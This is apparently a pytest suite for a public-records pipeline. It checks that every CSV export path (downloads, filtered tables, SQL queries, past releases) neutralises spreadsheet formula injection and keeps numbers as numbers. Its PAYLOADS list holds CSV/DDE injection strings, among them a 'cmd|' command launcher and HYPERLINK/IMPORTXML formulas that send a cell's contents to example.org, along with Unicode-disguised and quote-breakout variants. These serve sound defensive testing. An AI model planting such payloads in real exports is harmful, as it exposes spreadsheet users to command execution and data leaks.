"""No CSV, whichever way it leaves, holds a cell that a spreadsheet would run; numbers stay."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import unicodedata
from collections.abc import Callable, Iterator

import duckdb
import httpx
import pytest

from pipelines import as_published, harmless_csv, manifest, serve, shelf
from pipelines.exports import harmless
from pipelines.settings import Settings
from tests import invented_marts as invented

COMMAND = "cmd|' /C calc'!A0"
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    f"={COMMAND}",
    f"+{COMMAND}",
    f"-{COMMAND}",
    f"@SUM(1+1)*{COMMAND}",
    '=IMPORTXML(CONCAT("http://example.org/?",A1),"//a")',
    "-2+3",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\ufe661+1",
    "North;=1+1",
    "North\t=1+1;South",
    f"North\r\n-{COMMAND};South",
    f"7; +{COMMAND}",
)
"""What is run when it is written as it is: asserted below, one by one."""
BREAKOUTS = ('North","=1+1', 'North"\r\n"=1+1', '"=1+1', "'\"\t=1+1", "=", "\\=1+1", ";;=1+1;;=1+1")
NUMBERS = ("-5", "+5", "7.25", "-0.5", "-1E-3", "1e5", "007", "0")
WORDS = ("North", 'Use of force, "minor"', "Rue de l'Église", "", "5-7", "a=b", "x; y; z")
TEXTS = (*PAYLOADS, *BREAKOUTS, *NUMBERS, *WORDS)
NUMBER = re.compile(r"[+-]?\d+([.]\d+)?([eE][+-]?\d+)?", re.ASCII)
UNSEEN = r'[\s"\ufeff\u200b]*'
APOSTROPHES = re.compile(
    rf"(^|[;\t\r\n]{UNSEEN})'(?={UNSEEN}[=+@\uff1d\uff0b\uff0d\uff20\ufe66-]|[\t\r\n])"
)


def live(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet runs, in any language: it separates as it likes."""
    readings = (csv.reader(io.StringIO(text, newline=""), delimiter=each) for each in ",;\t")
    return [cell for rows in readings for row in rows for cell in row if _is_run(cell)]


def _is_run(cell: str) -> bool:
    """By another method than the product's: what Unicode calls blank or unseen is taken away."""
    seen = [sign for sign in cell if unicodedata.category(sign)[0] not in "ZC"]
    plain = unicodedata.normalize("NFKC", "".join(seen))
    return plain.startswith(("=", "+", "-", "@")) and not NUMBER.fullmatch(cell)


def cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text, newline=""))]


def unmarked(cell: str) -> str:
    """What a cell was before it was made harmless."""
    return APOSTROPHES.sub(r"\1", cell)


def rows(count: int) -> dict[str, list[dict[str, object]]]:
    """A complaint for each text, in the columns of it that take any word."""
    first = invented.ROWS["complaints"][1]
    return {
        "complaints": [
            {
                **first,
                "complaint_id": f"LH-{n:04d}",
                "district": text or None,
                "category_local": f"{n}",
                "outcome_local": text or None,
                "days_to_close": -n,
            }
            for n, text in enumerate(TEXTS[:count])
        ]
    }


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """An installation that shows its second release and still offers the first."""
    made = invented.settings(tmp_path_factory.mktemp("formulas"))
    invented.publish(made, rows(len(PAYLOADS)))
    invented.publish(made, rows(len(TEXTS)))
    return made


@pytest.fixture(scope="module")
def site(settings: Settings) -> Iterator[httpx.Client]:
    with (
        serve.listening(settings, clock=lambda: invented.NIGHT) as running,
        httpx.Client(base_url=running.address, timeout=20, follow_redirects=True) as client,
    ):
        yield client


def got(site: httpx.Client, path: str, **asked: str) -> str:
    answer = site.get(path, params=asked) if asked else site.get(path)
    assert answer.status_code == 200, (path, answer.text[:3000])
    return answer.content.decode("utf-8")


def in_sql(site: httpx.Client, path: str) -> str:
    """The answer to a query of the reader's own that is given every text."""
    sql = "select value as district from json_each(:texts) order by key"
    return got(site, path, sql=sql, texts=json.dumps(TEXTS))


def of_a_question(settings: Settings) -> str:
    """What `oversight as-of --question` writes."""
    asked = as_published.Question("districts", "select district from complaints", ())
    file = shelf.folder(settings, 2) / "oversight.db"
    return "".join(as_published.answer(file, asked, {}, "csv"))


def of_a_release(settings: Settings, number: int) -> str:
    """What `oversight as-of --release` writes: the file as it was published."""
    released = manifest.read(shelf.folder(settings, number))
    file = as_published.file_of(settings, released, "complaints", "csv")
    return file.read_bytes().decode("utf-8")


Way = Callable[[httpx.Client, Settings], str]
WAYS: dict[str, tuple[int, Way]] = {
    "the file of the release": (len(TEXTS), lambda _, at: of_a_release(at, 2)),
    "as of an earlier release": (len(PAYLOADS), lambda _, at: of_a_release(at, 1)),
    "a question as of a release": (len(TEXTS), lambda _, at: of_a_question(at)),
    "a download": (len(TEXTS), lambda at, _: got(at, "/oversight/complaints.csv")),
    "a filtered table": (
        len(TEXTS),
        lambda at, _: got(at, "/oversight/complaints.csv", complaint_id__gte="LH"),
    ),
    "a filtered table of an earlier release": (
        len(PAYLOADS),
        lambda at, _: got(at, "/r0001/complaints.csv", complaint_id__gte="LH", _stream="on"),
    ),
    "a query": (len(TEXTS), lambda at, _: in_sql(at, "/oversight.csv")),
    "a query of an earlier release": (len(TEXTS), lambda at, _: in_sql(at, "/r0001.csv")),
    "a query, streamed": (len(TEXTS), lambda at, _: in_sql(at, "/r0002.csv")),
}


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_each_payload_is_run_when_it_is_written_as_it_is(payload: str) -> None:
    plain = io.StringIO()
    csv.writer(plain).writerows([["a", payload, "b"]])
    assert live(plain.getvalue())
    assert not live(harmless_csv.lines([["a", payload, "b"]]))


@pytest.mark.parametrize("way", WAYS)
def test_nothing_is_run_whichever_way_a_csv_leaves(
    site: httpx.Client, settings: Settings, way: str
) -> None:
    count, write = WAYS[way]
    text = write(site, settings)
    assert live(text) == []
    found = cells(text, "district")
    assert sorted(map(unmarked, found)) == sorted(TEXTS[:count])
    if count == len(TEXTS):
        assert set(NUMBERS) | set(WORDS) <= set(found)


def test_numbers_are_written_as_numbers(site: httpx.Client, settings: Settings) -> None:
    expected = [str(-n) for n in range(len(TEXTS))]
    for way in ("the file of the release", "a filtered table"):
        found = cells(WAYS[way][1](site, settings), "days_to_close")
        assert sorted(found) == sorted(expected), way
    told = got(site, "/oversight.csv", sql="select -5 as a, -0.25 as b, -1e-7 as c, '+49' as d")
    assert told.splitlines() == ["a,b,c,d", "-5,-0.25,-1e-07,+49"]


def test_a_heading_that_a_reader_words_is_not_run_either(site: httpx.Client) -> None:
    told = got(site, "/oversight.csv", sql='select 1 as "=1+1", 2 as "a;=1+1"')
    assert live(told) == []
    assert next(csv.reader([told.splitlines()[0]])) == ["'=1+1", "a;'=1+1"]


def test_a_query_that_cannot_be_run_is_no_empty_file(site: httpx.Client) -> None:
    answer = site.get("/oversight.csv", params={"sql": "select nothing from complaints"})
    assert (answer.status_code, "cannot be run" in answer.text) == (400, True)
    empty = got(site, "/oversight.csv", sql="select district from complaints where 0")
    assert empty == "district\r\n"


def test_no_other_spelling_of_the_address_leads_past(site: httpx.Client) -> None:
    sql = "select+'%3D1%2B1'+as+a"
    addresses = [
        *(f"/oversight{end}?sql={sql}" for end in (".CSV", "%2ecsv", "~2Ecsv", ".csv/", ".csv%0a")),
        *(f"/oversight?sql={sql}&_format=csv", f"/oversight.csv?sql={sql}&_stream=1"),
        *(f"/oversight.csv?sql={sql}&_header=off", f"/oversight.csv;x?sql={sql}"),
        "/oversight/complaints/larkhaven,LH-0000.csv",
        "/oversight/complaints/larkhaven,LH-0000.csv?_dl=on",
    ]
    for address in addresses:
        answer = site.get(address)
        kind = answer.headers.get("content-type", "")
        if answer.status_code == 200 and "html" not in kind and "json" not in kind:
            assert live(answer.text) == [], address


def test_both_writers_make_the_same_of_any_text() -> None:
    lot = random.Random(20261102)
    signs = "=+-@;\t\r\n '\"|,.12eEaé\u00a0\u200b\ufeff\uff1d\ufe66\x01\x7f\u3000\\"
    drawn = ["".join(lot.choices(signs, k=lot.randint(0, 7))) for _ in range(4000)]
    with duckdb.connect() as duck:
        duck.execute("create table texts as select unnest(?::varchar[]) as text", [drawn])
        found = duck.execute(f"select text, {harmless('text')} from texts").fetchall()
    assert len(found) == len(drawn)
    assert [text for text, made in found if made != harmless_csv.cell(text)] == []
    assert live(harmless_csv.lines([["x", made, "x"] for _, made in found])) == []
